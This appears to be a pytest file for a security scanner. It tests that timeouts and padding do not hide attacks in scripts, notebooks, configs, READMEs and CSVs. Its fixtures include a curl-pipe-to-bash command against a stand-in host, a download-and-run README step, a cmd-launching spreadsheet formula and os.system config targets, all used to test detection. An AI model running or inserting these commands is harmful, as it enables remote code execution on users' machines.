"""Files made to take long: reading them ends, says so, and keeps what was found before."""

import json

import pytest

from core.findings import FileState, Level
from core.progress import CancelToken, ignore_progress
from core.scanning.byte_sources import BytesFile
from core.scanning.engine import Target, scan
from core.scanning.inspection import Budget, LimitReached
from tests.core.scanning.examining import levels, look_at

FETCHES = "curl -s http://files.invalid/a | bash"
NOTEBOOK = """{"cells": [{"cell_type": "code", "source": "!%s", "outputs": []}, %s], "metadata": {}}"""
CELL = '{"cell_type": "code", "source": "!echo\\nx = [1]", "outputs": []}'


def soon_over(monkeypatch: pytest.MonkeyPatch, questions: int) -> None:
    """Let the time be used up after so many questions for it."""
    left = iter(range(questions))

    def check_time(_: Budget) -> None:
        if next(left, None) is None:
            raise LimitReached("too_slow")

    monkeypatch.setattr(Budget, "check_time", check_time)


@pytest.mark.parametrize(
    ("path", "content", "rule"),
    [
        ("a.sh", f"{FETCHES}\n" + "echo\n" * 400, "code-download-and-run"),
        ("a.py", f"import os\nos.system('{FETCHES}')\n" + "x = 1\n" * 400, "code-download-and-run"),
        ("a.ipynb", NOTEBOOK % (FETCHES, ", ".join([CELL] * 100)), "code-download-and-run"),
        (".vscode/a.yaml", f"command: {FETCHES}\n" + "a: b\n" * 400, "code-download-and-run"),
        ("a.csproj", f"<?xml version='1.0'?>\n<Exec Command='{FETCHES}'/>\n" + "<a/>\n" * 400, "code-download-and-run"),
    ],
)
def test_what_was_found_before_the_time_was_up_is_told(
    monkeypatch: pytest.MonkeyPatch, path: str, content: str, rule: str
) -> None:
    soon_over(monkeypatch, 100)
    seen = look_at(path, content)
    assert seen.state is FileState.PARTLY_CHECKED
    assert levels(seen)[rule] is Level.HIGH


@pytest.mark.parametrize(
    "content",
    [
        "<!--a-->" * 400 + "x",
        "<?xml version='1.0'?>" + "<!-- a -->" * 300 + "<!DOCTYPE" * 20,
        '#!/bin/sh\necho a"b"' + "c" * 3000 + "'\n",
        "#!/bin/sh\n" + '"a"' * 2700 + "'\n",
    ],
)
def test_texts_that_can_be_cut_up_in_many_ways_are_cut_up_in_one(content: str) -> None:
    """Without that, each of them takes longer than anybody lives."""
    assert look_at("a", content).state is FileState.CHECKED


PYTHON = f"\nimport os\nos.system('{FETCHES}')\n"
SLOW = {
    "dict.py": "a = {'x': q}\nb = {'x': q}\n"
    + "a = {'x': a, 'y': a}\nb = {'x': b, 'y': b}\n" * 60
    + "if z:\n  a = b\n",
    "calls.py": "def f0(): return 1\n"
    + "".join(f"def f{i}():\n  f{i - 1}()\n  return f{i - 1}()\n" for i in range(1, 60))
    + "f59()\n",
    "empty_loops.py": "".join(f"def f{i}():\n  for j in range(20000): pass\n" for i in range(1000)),
    "grown.py": "s = 'x'\nfor i in range(20000):\n  s = s + 'y' * 50\n",
    "searched.py": "s = 'x' * 1000000\nfor i in range(20000):\n  if 'xxxxy' in s: pass\n",
    "numbers.py": "b = int('f' * 1000000, 16)\nc = int('e' * 500000, 16)\n" + "d = b // c\n" * 20,
    "names.py": "a = q\nfor i in range(20000):\n  a = a.b()\n",
    "kept.py": "a = 'xy' * 400000\n" + "".join(f"b{i} = a + 'x{i}'\n" for i in range(1000)),
    "pieces.py": "a = 'x' * 1000000\nb = f'{q}" + "{a}" * 3000 + "'\n",
    "wide.py": "b = '%*d' % (999999999, 1)\n",
    "generic.py": "def f" + "[[]" * 30000 + "\nx = = 1\n",
    "printed.py": "print ()," * 900 + ";aa; print   ()   , " * 400 + "\n",
    "below.sh": "python <<EOF\n" * 20000,
    "set.bat": "set a=" + "x" * 4000 + "\r\necho %a:x=" + "y" * 1000000 + "%\r\n",
    "spaces.ps1": ("$a = b" + " " * 4000 + "c\n") * 50,
    "host.vbs": "wscript.shell " * 50_000,
    "blob.html": "<script>" + "new blob(" * 100_000 + "</script>",
    "foreign.svg": "<svg>" + "<foreignobject>" * 100_000 + "</svg>",
    "pre.md": "<pre>" * 150_000,
    "asks.md": "disable antivirus " * 20_000,
    "tags.yaml": "!<tag:yaml.org,2002:python/" * 60_000,
    "chat_template.jinja": "{% set a = message.content %}" * 20_000,
    "pyproject.toml": "a" + ".a" * 100_000 + " = 1\n",
    "given.c": "#include <a.h>\nint main() { system(" + " " * 100_000 + "; }\n",
    "lines.url": "[InternetShortcut]\n" + "\n" * 300_000,
    "time.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": "%time " + "-a  " * 40, "outputs": []}]}),
}
"""Small files, each of which kept its reader busy for minutes."""


def test_files_made_to_take_long_are_read_and_hide_nothing() -> None:
    files = {
        path: BytesFile((content + (PYTHON if path.endswith(".py") else "")).encode()) for path, content in SLOW.items()
    }
    targets = [Target(path, file.size) for path, file in files.items()]
    results = scan(targets, files.__getitem__, ignore_progress, CancelToken(), workers=2)
    reasons = {result.path: result.reason and result.reason.id for result in results}
    assert set(reasons.values()) <= {None, "scan.code_not_python", "scan.too_complicated"}, reasons
    for result in results:
        assert result.level is Level.HIGH or not result.path.endswith(".py"), result.path


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("README.md", "\n" * 25_000 + f"```\n{FETCHES}\n```\n"),
        ("README.md", "```\n" + "echo a\n" * 250 + "curl -o run http://a.invalid/run\nchmod +x run\n./run\n```\n"),
        ("config.json", '{"a":' * 70 + '{"_target_": "os.system"}' + "}" * 70),
        ("config.json", json.dumps({"z": {"_target_": "os.system"}, "x": {str(i): 1 for i in range(250_000)}})),
        ("servers.json", json.dumps({"mcpServers": {str(i): {"command": FETCHES * (i == 101)} for i in range(102)}})),
        (".vscode/tasks.json", json.dumps({"tasks": [{"command": FETCHES}], "x": "a" * 1_100_000})),
        (".vscode/tasks.json", '// {\n{"tasks": [{"command": "' + FETCHES + '"},],}\n/* }'),
        ("saved_model.pb", b"\x08\x01\x12\x0a\x12\x08\x0a\x06PyFunc\x12\x06PyFunc" + b" " * 70_000),
        ("docker-compose.yml", f"a:\n  command: {FETCHES}\n" + "# filled up\n" * 30_000),
        ("a.csproj", f"<?xml version='1.0'?>\n<Exec Command='{FETCHES}'/>\n" + "<!-- filled up -->\n" * 30_000),
        ("a.sh", f"a=1\necho {'x' * 20_000}$a; {FETCHES}\n"),
    ],
)
def test_no_filling_pushes_an_attack_out_of_sight(path: str, content: str | bytes) -> None:
    assert {Level.HIGH, Level.CAREFUL} & set(levels(look_at(path, content)).values())


def test_a_formula_far_to_the_right_is_found() -> None:
    assert "table-formula" in levels(look_at("a.csv", "1," * 3000 + "=cmd|' /C calc'!A0,2\n"))


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("config.json", "[" * 100_000 + "]" * 100_000),
        ("requirements.txt", "numpy\n" * 6000 + "--index-url http://a.invalid/simple\n"),
        ("requirements.txt", "#" * 1_100_000 + "\n--index-url http://a.invalid/simple\n"),
        (".github/workflows/a.yml", "a: b\n" * 900_000 + f"run: {FETCHES}\n"),
        ("a.csproj", "<?xml version='1.0'?>\n" + "<a/>\n" * 220_000 + f"<Exec Command='{FETCHES}'/>\n"),
    ],
)
def test_what_is_too_much_is_said(path: str, content: str) -> None:
    assert look_at(path, content).state is FileState.PARTLY_CHECKED


def test_a_table_that_is_too_long_to_be_searched_counts_as_checked_in_part() -> None:
    rows = "name,value\n" + "row,1\n" * (1 << 20)
    assert look_at("a.csv", rows).state is FileState.PARTLY_CHECKED
    assert look_at("a.csv", rows[: 1 << 20]).state is FileState.CHECKED
